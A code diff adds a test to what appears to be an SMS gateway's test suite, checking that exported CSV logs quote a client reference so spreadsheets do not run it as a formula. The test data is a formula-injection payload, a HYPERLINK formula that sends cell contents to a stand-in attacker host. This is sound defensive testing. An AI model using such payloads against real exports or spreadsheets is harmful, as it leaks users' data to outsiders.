@@ -64,6 +64,17 @@ async def test_csv_streams_the_same(gw: Gateway) -> None:
     assert rows[0]["to"] == "+8613800000004"
 
 
+async def test_csv_cells_never_run_as_formulas(gw: Gateway) -> None:
+    """A client_ref a spreadsheet would run (``=HYPERLINK(…)``) comes out quoted; the JSON
+    log keeps it as sent, and the number stays E.164."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    await gw.send(to="13812345678", client_ref=formula)
+    resp = await gw.client.get("/v1/logs", headers=gw.auth() | {"Accept": "text/csv"})
+    [row] = list(csv.DictReader(io.StringIO(await resp.text())))
+    assert row["client_ref"] == "'" + formula and row["to"] == "+8613812345678"
+    assert (await _logs(gw))["items"][0]["client_ref"] == formula
+
+
 async def test_ops_role_sees_masked_numbers(gw: Gateway) -> None:
     """Numbers are masked for the ops role, in JSON and in CSV."""
     await gw.send(to="13812345678")
